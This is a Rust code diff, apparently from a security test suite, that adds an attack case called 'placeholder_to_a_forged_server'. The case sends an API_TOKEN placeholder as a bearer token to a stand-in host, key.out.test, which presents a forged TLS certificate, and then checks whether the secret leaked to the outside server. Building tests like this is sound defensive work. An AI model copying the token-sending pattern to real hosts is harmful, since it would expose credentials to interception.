@@ -50,6 +50,7 @@ pub(crate) fn all() -> Vec<Attack> {
         secret("placeholder_with_the_host_of_another", act!(fronted)),
         secret("placeholder_shown_by_trace", act!(trace)),
         secret("placeholder_after_a_redirect", act!(redirect)),
+        secret("placeholder_to_a_forged_server", act!(forged)),
         Attack::act(
             Class::Secrets,
             "placeholder_in_single_bytes",
@@ -273,6 +274,17 @@ async fn fronted(stage: &Stage, target: &Target) -> Outcome<Finding> {
         }
     }
     Ok(last)
+}
+
+/// The right name and the wrong certificate, as whoever sits between would show it.
+async fn forged(stage: &Stage, target: &Target) -> Outcome<Finding> {
+    let (mark, token, port) = (stage.mark(), stage.placeholder(target, "API_TOKEN").await?, stage.outside.forged);
+    let request = bearer(&token, &format!("key.out.test:{port}"), &format!("/{mark}"));
+    let steps =
+        tunnel(format!("key.out.test:{port}"), vec![Step::Tls("key.out.test", "http/1.1"), Step::send(request)]);
+    let heard = stage.wire(target, &steps).await?;
+    let found = arrived(stage, &mark, &heard);
+    Ok(if stage.outside.saw(&mark) { Finding::escaped("it was sent") } else { found })
 }
 
 async fn trace(stage: &Stage, target: &Target) -> Outcome<Finding> {
